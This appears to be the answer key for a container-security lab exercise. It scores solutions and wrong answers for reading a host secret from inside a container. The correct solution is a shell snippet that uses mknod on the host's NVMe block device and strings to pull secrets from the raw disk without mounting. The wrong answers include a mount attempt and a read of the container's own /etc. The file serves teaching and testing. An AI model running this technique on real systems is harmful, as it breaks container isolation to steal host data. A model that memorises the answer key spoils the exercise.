"""Deep dive D's solutions."""

# Read the raw block device: no file system, so no mount(2), so no CAP_SYS_ADMIN.
RAW_DISK = """set -- $(grep ' nvme0n1$' /proc/partitions)
mknod /tmp/raw b "$1" "$2"
strings /tmp/raw | grep -m 1 '^host-secret-'
"""

# Typical mistakes: mounting (refused without CAP_SYS_ADMIN), and reading the container's own /etc.
MOUNT_IT = """set -- $(grep ' nvme0n1$' /proc/partitions)
mknod /tmp/disk b "$1" "$2"
mkdir -p /mnt/h && mount -t ext4 /tmp/disk /mnt/h && cat /mnt/h/etc/lab-host-secret
"""
OWN_ETC = "cat /etc/lab-host-secret"

SOLUTIONS = {
    "which-reads-the-host": lambda ex: "no yes no",
    "raw-disk": lambda ex: RAW_DISK,
}

WRONG = {
    "which-reads-the-host": lambda ex: ["yes yes no", "no yes yes", "yes", 42],
    "raw-disk": lambda ex: [MOUNT_IT, OWN_ETC, 7],
}
